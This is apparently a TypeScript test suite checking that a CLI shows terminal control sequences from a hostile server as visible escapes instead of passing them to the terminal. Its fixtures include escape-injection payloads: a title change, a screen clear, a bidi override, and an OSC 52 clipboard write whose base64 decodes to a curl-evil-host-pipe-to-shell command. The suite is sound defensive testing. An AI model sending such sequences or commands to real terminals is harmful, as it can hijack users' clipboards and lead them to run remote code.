/**
 * A hostile server cannot drive the terminal through the readable listing:
 * control sequences in event types, ids, data, comments, text chunks and
 * error bodies (window title, OSC 52 clipboard write, screen clear, C1 CSI,
 * a bidi override) are printed as visible escapes, never as the bytes.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { runCli } from './helpers/cli';
import { startServer, type TestServer } from './helpers/server';

const TITLE = '\x1b]0;pwned\x07';
const CLIPBOARD = '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07';
const CLEAR = '\x1b[2J';
const C1_CSI = '\u009b31m';
const BIDI = '\u202e';

/** Anything a terminal would act on rather than show. */
// eslint-disable-next-line no-control-regex -- looking for control characters is the point.
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('CLI listing: received control characters are shown, not obeyed', () => {
  let server: TestServer;
  before(async () => {
    server = await startServer((req, res) => {
      switch (req.url) {
        case '/sse':
          res.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-cache' });
          res.end(`: hello ${CLEAR}\nevent: x${TITLE}\nid: 7${CLEAR}\ndata: a${CLIPBOARD}b\ndata: ${C1_CSI}c${BIDI}d\r\n\n`);
          return;
        case '/v1/chat/completions': {
          // An OpenAI-style stream whose assembled text carries the sequences.
          const delta = (content: string): string => `data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', choices: [{ index: 0, delta: { content } }] })}\n\n`;
          res.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-cache' });
          res.end(delta(`hi ${TITLE}`) + delta(`${CLIPBOARD} there`) + 'data: [DONE]\n\n');
          return;
        }
        case '/text':
          res.writeHead(200, { 'content-type': 'text/plain' });
          res.end(`plain ${TITLE} text${C1_CSI}`);
          return;
        default:
          res.writeHead(500, { 'content-type': 'text/plain' });
          res.end(`failed ${CLIPBOARD}`);
      }
    });
  });
  after(() => server.close());

  it('escapes them in events, ids, comments and data', async () => {
    const r = await runCli([server.url + '/sse', '--no-diagnostics']);
    assert.equal(r.code, 0, r.stderr);
    assert.doesNotMatch(r.stdout, CONTROL);
    assert.ok(r.stdout.includes('x\\x1b]0;pwned\\x07'), r.stdout);
    assert.ok(r.stdout.includes('id=7\\x1b[2J'), r.stdout);
    assert.ok(r.stdout.includes(': hello \\x1b[2J'), r.stdout);
    assert.ok(r.stdout.includes('a\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07b⏎\\x9b31mc\\u202ed'), r.stdout);
  });

  it('escapes them in text chunks and in error bodies', async () => {
    const text = await runCli([server.url + '/text', '--no-diagnostics']);
    assert.doesNotMatch(text.stdout, CONTROL);
    assert.ok(text.stdout.includes('plain \\u001b]0;pwned\\u0007 text\\x9b31m'), text.stdout);
    const failed = await runCli([server.url + '/500', '--no-diagnostics']);
    assert.equal(failed.code, 1);
    assert.doesNotMatch(failed.stdout, CONTROL);
    assert.ok(failed.stdout.includes('failed \\x1b]52;c;'), failed.stdout);
  });

  it('escapes them in the assembled LLM response (--merge)', async () => {
    const r = await runCli([server.url + '/v1/chat/completions', '--merge', '--no-diagnostics']);
    assert.equal(r.code, 0, r.stderr);
    assert.doesNotMatch(r.stdout, CONTROL);
    assert.ok(r.stdout.includes('hi \\x1b]0;pwned\\x07\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 there'), r.stdout);
  });
});
